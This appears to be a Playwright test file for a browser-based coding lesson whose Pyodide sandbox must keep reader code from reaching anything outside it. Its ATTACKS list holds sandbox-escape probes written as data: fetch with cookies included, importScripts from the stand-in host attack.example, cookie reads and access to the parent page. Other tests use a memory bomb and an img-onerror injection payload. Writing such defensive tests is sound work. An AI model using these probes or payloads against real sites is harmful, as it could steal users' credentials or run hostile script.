"""Code that readers change: it is checked, kept, shared, and whatever it tries, it reaches nothing."""

import json
import re

import pytest
from playwright.sync_api import expect

from company import Company
from lesson import sharing
from lesson.exercises import EXERCISES
from person import Person
from reader import Exercise
from tests.support.running import RunningServer

GOOD = "def delay(number, random):\n    return min(30, 2**number) * random.random()\n"
BAD = "def delay(number, random):\n    return 1.0\n"
THEIRS = "# theirs\n" + BAD


@pytest.fixture
def reader(guests: Company) -> Person:
    """Somebody with the lesson open."""
    person = guests.person("Reader")
    person.page.emulate_media(reduced_motion="reduce")
    person.open("/learn")
    return person


def test_the_checks_say_what_is_missing_and_what_helps(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    expect(exercise.editor).to_be_focused()
    assert reader.words("learn.exercise.missing") in exercise.run()
    expect(exercise.root.locator("li.fails")).to_have_count(1)
    exercise.press("hint")
    expect(exercise.result).to_have_text(reader.words("exercise.delays.hint.spread"))
    exercise.write(GOOD)
    assert reader.words("learn.exercise.passed") in exercise.run()
    expect(exercise.root.locator("li.fails")).to_have_count(0)
    exercise.write("def delay(number, random):\n    return 1 / 0\n")
    assert "ZeroDivisionError" in exercise.run()


def test_what_is_changed_survives_a_reload_until_it_is_reset(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write(GOOD)
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("2**number")
    exercise.press("reset")
    expect(exercise.editor).not_to_contain_text("2**number")
    assert exercise.code().rstrip() == EXERCISES["delays"].source.rstrip()
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("return 1.0")


def test_a_link_shows_code_and_runs_it_only_when_asked(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write(GOOD)
    exercise.press("share")
    link = exercise.root.get_by_label(reader.words("learn.exercise.link")).input_value()
    assert "/learn#code/delays/" in link
    code = "from js import console\nconsole.warn('it ran')\n" + BAD
    reader.page.goto("about:blank")
    reader.open(f"/learn{sharing.fragment('delays', code)}")
    expect(exercise.editor).to_contain_text("it ran")
    expect(exercise.root.get_by_text(reader.words("learn.exercise.given"))).to_be_visible()
    assert reader.watch.verdict() == [], "nothing was run"
    assert reader.page.evaluate("localStorage['rebond.lesson.delays']").rstrip() == GOOD.rstrip(), "one's own is kept"
    expect(exercise.root).to_be_in_viewport()
    reader.watch.expects("it ran")
    exercise.run()


def test_code_of_a_link_that_is_changed_is_one_s_own(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    reader.page.goto("about:blank")
    reader.open(f"/learn{sharing.fragment('delays', THEIRS)}")
    expect(exercise.editor).to_contain_text("theirs")
    exercise.write("# mine\n" + GOOD)
    reader.reload()
    exercise.press("open")
    expect(exercise.editor).to_contain_text("mine")


def test_a_link_opens_in_a_lesson_that_is_open(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write(GOOD)
    reader.page.evaluate("(to) => location.assign(to)", sharing.fragment("delays", THEIRS))
    expect(exercise.editor).to_contain_text("theirs")
    expect(exercise.root).to_be_in_viewport()


def test_an_endless_loop_is_stopped_and_said(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write("while True:\n    pass\n")
    assert exercise.run() == reader.words("learn.exercise.endless")
    exercise.write(GOOD)
    assert reader.words("learn.exercise.passed") in exercise.run(), "and the next run is as any other"


ATTACKS = {
    "fetch": "js.fetch('/api/attack-fetch')",
    "fetch with cookies": "js.fetch('/api/attack-cookies', to_js({'credentials': 'include'}))",
    "a request of the old kind": "r = js.XMLHttpRequest.new(); r.open('POST', '/api/attack-request'); r.send('x')",
    "a synchronous request": "r = js.XMLHttpRequest.new(); r.open('GET', '/api/attack-sync', False); r.send()",
    "a WebSocket": "js.WebSocket.new(f'ws://{HOST}/attack-socket')",
    "the practice line": "js.WebSocket.new(f'ws://{HOST}/practice?line=attack-practice')",
    "events": "js.EventSource.new('/api/attack-events')",
    "scripts of other hosts": "js.importScripts('https://attack.example/x.js')",
    "scripts of ours": "js.importScripts('/api/attack-script')",
    "a module worker": "js.Worker.new(f'http://{HOST}/attack-worker.js')",
    "eval": "js.eval('1')",
    "a function": "js.Function.new('return 1')()",
    "a cookie": "js.document.cookie",
    "the page above": "js.parent.document.body",
    "the top": "js.top.location.assign('/attack-top')",
    "a window": "js.open('/attack-window')",
    "a form": "js.document.forms[0].submit()",
    "storage": "js.localStorage.setItem('attack', '1')",
    "a database": "js.indexedDB.open('attack').onsuccess",
    "caches": "js.caches.open('attack')",
}

FRAME = """
import js
from pyodide.ffi import to_js as _to_js
HOST = js.location.origin and {host!r}
def to_js(given): return _to_js(given, dict_converter=js.Object.fromEntries)
said = []
for name, attack in {attacks!r}.items():
    try:
        found = eval(attack, globals()) if ";" not in attack else exec(attack, globals())
        said.append(f"{{name}}: no error")
    except Exception as error:
        said.append(f"{{name}}: {{type(error).__name__}}")
raise RuntimeError(" | ".join(said))
"""

SILENT = {
    "fetch",
    "fetch with cookies",
    "a request of the old kind",
    "caches",
    "a database",
    "events",
    "a module worker",
    "a WebSocket",
    "the practice line",
}
"""Attacks of which the browser tells the code nothing at once: that they came to nothing, the server knows."""


def test_no_attack_reaches_anything(guests: Company, reader: Person, server: RunningServer) -> None:
    guests.let_in(reader, "register")
    assert reader.page.evaluate("fetch('/api/attack-control').then((answer) => answer.status)") == 404
    reader.watch.expects("404")
    reader.watch.tolerates("Content Security Policy|Refused to|violates|attack|blocked")
    reader.watch.tolerates(r"PyodideFuture exception was never retrieved|^console.warning:  \(")  # of the attacks' own
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    host = server.url.removeprefix("http://")
    exercise.write(FRAME.format(host=host, attacks=ATTACKS))
    said = exercise.run()
    assert "RuntimeError" in said, said
    results = dict(
        part.rsplit(": ", 1) for part in said.split("RuntimeError: ", 1)[1].split(" (client.py")[0].split(" | ")
    )
    assert results.keys() == ATTACKS.keys()
    assert {name for name, result in results.items() if result == "no error"} <= SILENT
    # The page itself is where it was, with all that is its own.
    assert len(reader.context.pages) == 1
    assert reader.page.url.startswith(f"{server.url}/learn")
    assert reader.page.evaluate("localStorage.getItem('attack')") is None
    # A request that is made later than the attack is in the log behind it, if that was one at all.
    assert reader.page.evaluate("fetch('/api/attack-last').then((answer) => answer.status)") == 404
    server.wait_for("attack-last")
    asked = set(re.findall(r"attack-[\w.]+", server.output()))
    assert asked == {"attack-control", "attack-last"}


def test_a_memory_bomb_goes_off_in_the_sandbox_alone(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write("bytes(2**30)\n" + GOOD)
    assert "MemoryError" in exercise.run()
    exercise.write(GOOD)
    assert reader.words("learn.exercise.passed") in exercise.run()


def test_what_the_code_says_for_itself_is_shown_as_words(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    outcome = {
        "passed": True,
        "checks": [{"id": "<img src=x onerror=alert(1)>", "passed": True, "values": {"n": "<b>"}}],
        "hint": None,
        "error": None,
    }
    message = json.dumps({"kind": "done", "outcome": json.dumps(outcome)})
    exercise.write(f"import js\njs.postMessage(js.JSON.parse({message!r}))\nwhile True:\n    pass\n")
    assert "<img src=x" in exercise.run(), "the code has marked itself, which cheats nobody but its reader"
    assert exercise.root.locator("img").count() == 0


def test_only_the_sandbox_is_listened_to(reader: Person) -> None:
    exercise = Exercise(reader, "delays")
    exercise.press("open")
    exercise.write("while True:\n    pass\n")
    exercise.press("run")
    outcome = json.dumps({"passed": True, "checks": [{"id": "spread", "passed": True, "values": {}}]})
    for number in range(5):
        message = {"id": number, "kind": "done", "outcome": outcome}
        reader.page.evaluate("(message) => postMessage(message, '*')", message)
    expect(exercise.result).to_have_text(reader.words("learn.exercise.endless"))
